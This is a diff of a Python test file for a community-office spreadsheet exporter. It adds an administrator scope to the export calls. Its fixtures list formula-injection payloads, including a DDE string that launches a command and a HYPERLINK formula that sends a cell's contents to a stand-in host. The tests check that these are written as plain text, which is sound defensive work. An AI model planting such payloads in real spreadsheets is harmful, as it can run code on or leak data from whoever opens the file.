@@ -19,7 +19,11 @@ from exports.import_report import write_report
 from gridoffice import formulas, regions
 from gridoffice.idcard import make_id
 from gridoffice.roster_import import import_file
+from gridoffice.users import whole_office
 from tests._reports import MONTH, TODAY
+
+# The whole office, as an administrator sees it (users.scope_of makes a logged-in user's).
+ADMIN = whole_office("测试员")
 
 HOSTILE = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?d="&C3,"查看")', "=2+3网格", "@SUM(1)", "-1+2", "\t=1",
            "+1", "＝1+1", " =1", "#N/A")
@@ -100,7 +104,7 @@ def test_roster_writes_every_text_as_text(hostile_office, tmp_path):
     db, given = hostile_office
     for full in (True, False):
         path = tmp_path / f"roster-{full}.xlsx"
-        consume(roster.write(db, path, full_numbers=full, reason="核对" if full else ""), quiet=True)
+        consume(roster.write(db, path, scope=ADMIN, full_numbers=full, reason="核对" if full else ""), quiet=True)
         texts = set(_assert_no_foreign_formula(path))
         for key in ("grids", "persons", "addresses", "notes"):
             missing = [t for t in given[key] if t not in texts]
@@ -111,7 +115,7 @@ def test_roster_writes_every_text_as_text(hostile_office, tmp_path):
 def test_monthly_summary_keeps_names_text_and_its_own_formulas(hostile_office, tmp_path):
     db, given = hostile_office
     path = tmp_path / "summary.xlsx"
-    consume(monthly_summary.write(db, path, MONTH), quiet=True)
+    consume(monthly_summary.write(db, path, MONTH, scope=ADMIN), quiet=True)
     texts = set(_assert_no_foreign_formula(path))
     assert set(given["grids"]) <= texts
     assert set(given["categories"]) <= texts
@@ -123,11 +127,11 @@ def test_monthly_summary_keeps_names_text_and_its_own_formulas(hostile_office, t
 def test_public_notice_and_assessment(hostile_office, tmp_path):
     db, given = hostile_office
     notice = tmp_path / "notice.xlsx"
-    consume(public_notice.write(db, notice, MONTH), quiet=True)
+    consume(public_notice.write(db, notice, MONTH, scope=ADMIN), quiet=True)
     texts = set(_assert_no_foreign_formula(notice))
     assert set(given["grids"]) <= texts and set(given["teams"]) & texts
     path = tmp_path / "assessment.xlsx"
-    consume(assessment.write(db, path, "2026", today=TODAY), quiet=True)
+    consume(assessment.write(db, path, "2026", scope=ADMIN, today=TODAY), quiet=True)
     texts = set(_assert_no_foreign_formula(path))
     assert set(given["staff"]) & texts and set(given["teams"]) & texts
     assert sum(c.data_type == "f" for _, c in _cells(path)) > 10
@@ -180,12 +184,12 @@ def test_characters_xml_forbids_are_dropped_by_the_writers(activity_office, tmp_
         db.execute("UPDATE org_units SET name = '第一\ufffe网格' WHERE id = (SELECT min(id) FROM org_units "
                    "WHERE level = 'grid')")
     path = tmp_path / "roster.xlsx"
-    consume(roster.write(db, path, full_numbers=True, reason="核对"), quiet=True)
+    consume(roster.write(db, path, scope=ADMIN, full_numbers=True, reason="核对"), quiet=True)
     _well_formed(path)
     values = {c.value for _, c in _cells(path)}
     assert {"张三", "备注", "第一网格"} <= values
     summary = tmp_path / "summary.xlsx"
-    consume(monthly_summary.write(db, summary, MONTH), quiet=True)
+    consume(monthly_summary.write(db, summary, MONTH, scope=ADMIN), quiet=True)
     _well_formed(summary)
     assert "第一网格" in {c.value for _, c in _cells(summary)}
 
@@ -194,7 +198,7 @@ def test_characters_xml_forbids_are_dropped_by_the_writers(activity_office, tmp_
 def test_libreoffice_shows_the_text_not_a_computed_value(hostile_office, tmp_path):
     db, given = hostile_office
     path = tmp_path / "roster.xlsx"
-    consume(roster.write(db, path, columns=["户号", "姓名", "住址", "所属网格", "备注"]), quiet=True)
+    consume(roster.write(db, path, scope=ADMIN, columns=["户号", "姓名", "住址", "所属网格", "备注"]), quiet=True)
     out = tmp_path / "csv"
     subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                     "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(path)],
